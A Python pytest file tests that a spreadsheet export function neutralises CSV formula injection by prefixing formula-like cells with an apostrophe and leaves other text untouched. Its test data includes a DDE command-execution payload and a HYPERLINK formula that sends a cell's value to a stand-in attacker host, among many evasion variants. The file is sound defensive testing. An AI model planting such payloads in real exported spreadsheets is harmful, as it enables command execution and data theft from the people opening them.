"""A table that goes into a spreadsheet: every text arrives as it was, and none is worked out."""

import csv
from io import StringIO

import pytest

from commonhold.exchange.table.write import cell, table

FORMULAS = [
    '=cmd|"/C calc"!A0', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1", "  =1", "\u00a0=1", "＝1", "＋1", "－1",
    "＠A1", '=HYPERLINK("https://evil.example/?"&A1,"open")', "-",
]  # fmt: skip
TEXTS = ["", "Clear Eyes.", "3 = 3", "a@b.example", "1-2", "'quoted'", "مرحبا", "two\nlines; and, commas", '"', "  "]


def read(content: bytes) -> list[list[str]]:
    return list(csv.reader(StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("told", FORMULAS)
def test_what_begins_like_a_formula_is_text(told: str) -> None:
    assert cell(told) == f"'{told}"
    assert read(table([["a", told], [told, "b"]])) == [["a", f"'{told}"], [f"'{told}", "b"]]


@pytest.mark.parametrize("told", TEXTS)
def test_all_else_arrives_as_it_was(told: str) -> None:
    assert cell(told) == told
    assert read(table([[told, told]])) == [[told, told]]


def test_a_cell_does_not_end_before_its_words_do() -> None:
    """A quote or a comma in a text opens no cell of its own, in which a formula could stand."""
    assert read(table([['x","=1+1', "x;=1"]])) == [['x","=1+1', "x;=1"]]
    assert table([["é"]]).startswith(b"\xef\xbb\xbf")
